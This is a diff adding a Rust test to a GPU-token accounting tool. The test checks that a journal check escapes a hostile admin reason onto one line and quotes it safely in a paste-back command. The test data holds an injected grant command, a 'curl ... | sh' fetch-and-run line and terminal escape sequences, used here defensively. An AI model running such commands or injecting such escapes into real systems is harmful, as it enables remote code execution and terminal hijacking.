@@ -120,3 +120,41 @@ fn a_restored_backup_charges_the_jobs_since_once_and_the_journal_lists_the_grant
     assert_eq!(missing, 0, "{lines:#?}");
     assert!(lines[0].ends_with(": 1 entries, all in the ledger"), "{lines:#?}");
 }
+
+/// The audit's M1: a reason journaled before control characters were refused (a coordinator's
+/// newline and escape sequences) is shown escaped on one line, and the command to paste is one
+/// line that enters exactly that text again.
+#[test]
+fn the_journal_check_shows_a_hostile_reason_on_one_line_and_quotes_it_whole() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::create_dir(dir.path().join("journal")).unwrap();
+    let config = config(dir.path());
+    let cycle = open(&config);
+    let reason = "term grant\n  accountd admin grant carol 100000 --key r1; curl -s http://x/p | sh\n\u{1b}[2K\u{1b}]52;c;eA==\u{7}";
+    let line = crate::admin_journal::JournalLine {
+        key: "grant:k1".into(),
+        entry_id: 7,
+        at: BACKUP_AT,
+        admin: "carol".into(),
+        user: "account course".into(),
+        kind: gputokens::entry::EntryKind::Grant,
+        amount: "1".parse().unwrap(),
+        reason: reason.into(),
+        job_id: None,
+        command: None,
+    };
+    std::fs::write(&config.paths.admin_journal, serde_json::to_string(&line).unwrap() + "\n").unwrap();
+    let (lines, missing) = crate::cli::journal_check::report(&cycle.res.ledger, &config.paths.admin_journal).unwrap();
+    assert_eq!(missing, 1, "{lines:#?}");
+    for shown in &lines {
+        assert!(!shown.chars().any(gputokens::free_text::hidden_meaning), "{shown:?}");
+    }
+    assert!(lines[0]
+        .contains(r"(term grant\n  accountd admin grant carol 100000 --key r1; curl -s http://x/p | sh\n\u{1b}[2K"));
+    let command = &lines[1];
+    assert!(
+        command.starts_with("  accountd admin account grant course 1 --reason $'term grant\\x0a  accountd"),
+        "{command}"
+    );
+    assert!(command.ends_with(" --key k1"), "{command}");
+}
